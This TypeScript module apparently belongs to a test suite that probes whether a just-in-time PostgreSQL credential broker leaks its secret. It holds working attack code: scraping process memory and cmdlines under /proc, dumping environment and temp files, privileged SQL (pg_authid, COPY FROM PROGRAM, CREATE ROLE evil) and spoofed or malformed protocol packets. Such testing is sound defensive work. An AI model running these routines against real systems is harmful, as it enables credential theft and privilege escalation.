import { readFileSync } from 'node:fs'
import type { Escape } from '../escape.ts'
import { python, run, shell, speak } from '../tools.ts'

const psql = async (sql: string, env: NodeJS.ProcessEnv = {}) =>
  (await run('psql', ['-X', '-w', '-At', '-c', sql], { env: { ...process.env, ...env } })).output

const needs = ['psql']

const reading: Escape[] = [
  {
    name: 'read the password from the environment',
    gain: 'the credential itself, to use elsewhere',
    plain: true,
    proof: 'password',
    attempt: () => JSON.stringify(process.env),
  },
  {
    name: 'read it from the memory of the `jit` that asked',
    gain: 'the credential itself, to use elsewhere',
    plain: true,
    needs: ['python3'],
    proof: 'password',
    attempt: () =>
      python(
        `import re, glob
found = set()
for path in glob.glob('/proc/[0-9]*'):
    try:
        words = open(path + '/cmdline', 'rb').read()
        if path.endswith('/' + os.readlink('/proc/self')) or b'jit.js' not in words or sys.argv[1].encode() not in words: continue
        memory = open(path + '/mem', 'rb', 0)
        for line in open(path + '/maps'):
            span, rights = line.split()[:2]
            if 'rw' not in rights: continue
            start, end = (int(part, 16) for part in span.split('-'))
            if end - start > 16 << 20: continue
            try: memory.seek(start); data = memory.read(end - start)
            except (OSError, ValueError, OverflowError): continue
            found.update(word for word in re.findall(rb'[A-Za-z0-9_-]{43,}', data) if len(word) == 43)
    except OSError: pass
print(b'\\n'.join(list(found)[:1000]).decode())`,
        [process.argv[2] ?? ''],
      ),
  },
  {
    name: 'find it in files that were made for the command',
    gain: 'the credential itself, to use elsewhere',
    plain: false,
    proof: 'password',
    attempt: () =>
      shell(
        'find /tmp /run ~ -xdev -type f -size -64k -newermt "-1 hour" -exec cat {} + 2>/dev/null | head -c 2000000',
      ),
  },
  {
    name: 'read it from the command lines of what forwards the connections',
    gain: 'the credential itself, to use elsewhere',
    plain: false,
    proof: 'password',
    attempt: () => shell("cat /proc/[0-9]*/cmdline | tr '\\0' '\\n'"),
  },
]

const asking: Escape[] = [
  {
    name: 'ask for the password instead (--deliver env)',
    gain: 'the credential itself, to use elsewhere',
    plain: false,
    proof: 'password',
    attempt: async () => {
      const { jit } = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as {
        jit: [string, string]
      }
      const words = [
        'exec',
        '--env',
        'dev',
        '--task',
        'plan',
        '--target',
        'dev-db',
        '--deliver',
        'env',
      ]
      return (await run(jit[0], [jit[1], ...words, '--mask', 'never', '--', 'env'])).output
    },
  },
  {
    name: "have the database say it (pg_authid, pg_shadow, pg_stat_activity, its files, a program of the server's)",
    gain: 'the credential of this lease, or of others',
    plain: false,
    needs,
    proof: 'claim',
    attempt: async () => {
      const tries = await Promise.all(
        [
          'SELECT rolname, rolpassword FROM pg_authid',
          'SELECT usename, passwd FROM pg_shadow',
          "SELECT pg_read_file('pg_hba.conf')",
          "CREATE TEMP TABLE t (l text); COPY t FROM PROGRAM 'id'; SELECT * FROM t",
          "COPY (SELECT 1) TO '/tmp/out'",
          "SELECT query FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND query ~ 'SCRAM'",
          'SET SESSION AUTHORIZATION postgres; SELECT 1',
          'SET ROLE migrator; SELECT 1',
          'CREATE EXTENSION dblink',
          'CREATE ROLE evil LOGIN',
          "ALTER ROLE CURRENT_USER VALID UNTIL 'infinity'",
        ].map((sql) => psql(sql)),
      )
      const got = tries.filter((said) => said.trim() !== '' && !/ERROR/.test(said))
      if (got.length > 0) return got.join('\n')
      throw new Error(String(tries[0]).trim())
    },
  },
]

/** A startup packet of protocol 3.0 (PostgreSQL, section 55.7). */
function startup(parameters: Readonly<Record<string, string>>): Buffer {
  const text = Object.entries(parameters).flat()
  const body = Buffer.from(`${text.join('\0')}\0\0`)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.writeUInt32BE(196_608, 4)
  return Buffer.concat([head, body])
}

/** ReadyForQuery: only then is somebody in. */
const SIGNED_IN = 'Z\0\0\0\x05'

const port = () => ({ host: process.env.PGHOST ?? '127.0.0.1', port: Number(process.env.PGPORT) })

const protocol: Escape[] = [
  {
    name: 'sign in through the port as somebody else, or for replication',
    gain: 'an administrator, or the whole database as a stream',
    plain: false,
    proof: 'claim',
    attempt: async () => {
      const { PGUSER: user = '', PGDATABASE: database = '' } = process.env
      const tries = [
        { user: 'postgres', database },
        { user: '', database },
        { user: `${user}\u0001`, database },
        { user: user.toUpperCase(), database },
        { user: user.slice(0, -1), database },
        { database, user: 'postgres', options: `-c session_authorization=${user}` },
        { user, database, replication: 'database' },
        { user, database, replication: 'true' },
        { user, database: 'template1', options: '-c role=postgres' },
        { user: 'readonly', database },
      ]
      const answers = await Promise.all(
        tries.map(async (one) => {
          const answer = await speak({ ...port(), say: startup(one), patience: 1_500 }).catch(
            () => '',
          )
          return answer.includes(SIGNED_IN) ? JSON.stringify(one) : ''
        }),
      )
      return answers.filter(Boolean).join('\n') || undefined
    },
  },
  {
    name: 'make the port say it by packets that are wrong',
    gain: 'the credential in a message of error',
    plain: false,
    proof: 'password',
    attempt: async () => {
      const { PGUSER: user = '', PGDATABASE: database = '' } = process.env
      const start = startup({ user, database })
      const wrong = [
        Buffer.of(0, 0, 0, 4),
        Buffer.of(0, 0, 0, 8, 0, 9, 0, 0),
        Buffer.of(0, 255, 255, 255, 0, 3, 0, 0),
        Buffer.concat([Buffer.of(0, 0, 0, 8, 4, 210, 22, 47), Buffer.alloc(4096)]),
        Buffer.concat([Buffer.of(0, 0, 0, 8, 4, 210, 22, 48), start]),
        Buffer.concat([Buffer.of(0, 0, 0, 16, 4, 210, 22, 46), Buffer.alloc(8)]),
        Buffer.concat([start, Buffer.from('p\0\0\0\x08pass'), Buffer.from('X\0\0\0\x04')]),
        Buffer.concat([start, Buffer.from('Q\0\0\0\x0bSELECT\0'), Buffer.alloc(64, 0xff)]),
        startup({ user, database: 'not-there' }),
        startup({ user, database, options: '-c no_such=1' }),
        startup({ user, database, client_encoding: 'nonsense' }),
      ]
      const said = wrong.map((say) => speak({ ...port(), say, patience: 800 }).catch(() => ''))
      return (await Promise.all(said)).join('\n')
    },
  },
  {
    name: 'reach the database past the port, by its own address',
    gain: 'sessions that nobody ends',
    plain: false,
    proof: 'claim',
    attempt: async () => {
      const { databasePort } = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as {
        databasePort: number
      }
      return speak({ port: databasePort, say: Buffer.of(0, 0, 0, 8, 4, 210, 22, 47) })
    },
  },
]

/** What is tried with a grant in hand. */
export const credential: readonly Escape[] = [...reading, ...asking, ...protocol]
